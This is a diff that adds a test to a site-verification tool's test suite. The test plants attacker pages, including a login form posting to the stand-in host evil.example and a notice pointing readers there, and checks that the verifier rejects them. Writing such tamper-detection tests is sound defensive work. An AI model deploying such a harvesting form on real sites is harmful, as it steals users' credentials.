@@ -218,3 +218,16 @@ def test_a_folder_that_is_not_a_site_is_refused(tmp_path: Path) -> None:
     result = CliRunner().invoke(cli, ["verify-site", str(tmp_path)])
     assert result.exit_code != 0
     assert "is not a published site: it has no manifest.json" in result.output
+
+
+def test_attack_7_an_extra_page_listed_in_the_manifest_fails(signed: Gatekeepers, site: Path) -> None:
+    """A page of the attacker's own, listed in the manifest so that the manifest check passes."""
+    assert publish(signed.root, site).exit_code == 0
+    build = site.resolve()
+    (build / V1 / "login.html").write_text("<form action=https://evil.example/>")
+    (build / "notice.html").write_text("<p>Reports have moved to https://evil.example</p>")
+    _reconcile(build)
+    result = verify(signed.root, site)
+    assert result.exit_code == 1, result.output
+    assert f"{V1}/login.html is on the site, but no verified version or page makes it" in result.output
+    assert "notice.html is on the site, but no verified version or page makes it" in result.output
